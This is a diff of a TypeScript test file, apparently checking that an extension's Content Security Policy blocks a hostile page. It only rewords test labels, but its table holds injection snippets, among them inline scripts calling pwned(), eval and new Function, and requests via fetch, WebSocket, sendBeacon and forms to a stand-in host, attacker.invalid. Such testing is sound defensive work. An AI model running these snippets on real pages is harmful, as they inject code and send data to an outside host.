@@ -9,15 +9,15 @@ declare const hostilePage: typeof HostilePage;
 const attempts: Readonly<Record<string, readonly (readonly [what: string, script: string])[]>> = {
 	"script-src-elem": [
 		["a script without the nonce", "add('script', { textContent: 'pwned()' })"],
-		["a script of the extension's own folder without the nonce", "add('script', { src: '/a.js' })"],
+		["a script in the extension's own folder without the nonce", "add('script', { src: '/a.js' })"],
 		["a script with another nonce", "add('script', { nonce: 'other', textContent: 'pwned()' })"],
 		["a script from elsewhere", "add('script', { src: 'http://attacker.invalid/a.js' })"],
-		["a script in an address", "add('a', { href: 'javascript:pwned()' }).click()"],
+		["a script in a URL", "add('a', { href: 'javascript:pwned()' }).click()"],
 	],
 	"script-src-attr": [["an event handler", "add('p', {}).setAttribute('onclick', 'pwned()')"]],
 	"script-src": [
 		["eval", "try { (0, eval)('pwned()') } catch {}"],
-		["a function made of text", "try { new Function('pwned()')() } catch {}"],
+		["a function created from text", "try { new Function('pwned()')() } catch {}"],
 		[
 			"WebAssembly",
 			"WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).catch(() => 0)",
@@ -30,7 +30,7 @@ const attempts: Readonly<Record<string, readonly (readonly [what: string, script
 			"add('link', { rel: 'stylesheet', href: 'http://attacker.invalid/a.css' })",
 		],
 		[
-			"a style sheet in an address",
+			"a style sheet in a data URL",
 			"add('link', { rel: 'stylesheet', href: 'data:text/css,p{}' })",
 		],
 	],
@@ -40,16 +40,16 @@ const attempts: Readonly<Record<string, readonly (readonly [what: string, script
 			"a font from elsewhere",
 			"new FontFace('x', 'url(http://attacker.invalid/a.woff2)').load().catch(() => 0)",
 		],
-		["a font in an address", "new FontFace('x', 'url(data:font/woff2,x)').load().catch(() => 0)"],
+		["a font in a data URL", "new FontFace('x', 'url(data:font/woff2,x)').load().catch(() => 0)"],
 	],
 	"img-src": [
 		["an image from elsewhere", "add('img', { src: 'http://attacker.invalid/a.png' })"],
-		["an image in an address", "add('img', { src: 'data:image/svg+xml,<svg/>' })"],
-		["an image of a script", "add('img', { src: URL.createObjectURL(new Blob(['x'])) })"],
+		["an image in a data URL", "add('img', { src: 'data:image/svg+xml,<svg/>' })"],
+		["an image that a script created", "add('img', { src: URL.createObjectURL(new Blob(['x'])) })"],
 	],
 	"base-uri": [
-		["another base for addresses", "add('base', { href: 'http://attacker.invalid/' })"],
-		["another base of the same origin", "add('base', { href: '/elsewhere/' })"],
+		["a base URL of another origin", "add('base', { href: 'http://attacker.invalid/' })"],
+		["a base URL of the same origin", "add('base', { href: '/elsewhere/' })"],
 	],
 	"form-action": [
 		["a form sent elsewhere", "add('form', { action: 'http://attacker.invalid/' }).submit()"],
@@ -57,14 +57,14 @@ const attempts: Readonly<Record<string, readonly (readonly [what: string, script
 	],
 	"connect-src": [
 		["a request", "fetch('http://attacker.invalid/').catch(() => 0)"],
-		["a request of the same origin", "fetch('/').catch(() => 0)"],
+		["a request to the same origin", "fetch('/').catch(() => 0)"],
 		["a socket", "try { new WebSocket('ws://attacker.invalid') } catch {}"],
 		["a beacon", "navigator.sendBeacon('http://attacker.invalid/')"],
 	],
 	"frame-src": [
 		["a frame from elsewhere", "add('iframe', { src: 'http://attacker.invalid/' })"],
 		["a frame of the same origin", "add('iframe', { src: '/' })"],
-		["a frame in an address", "add('iframe', { src: 'data:text/html,x' })"],
+		["a frame in a data URL", "add('iframe', { src: 'data:text/html,x' })"],
 	],
 	"object-src": [
 		["an object", "add('object', { data: '/a' })"],
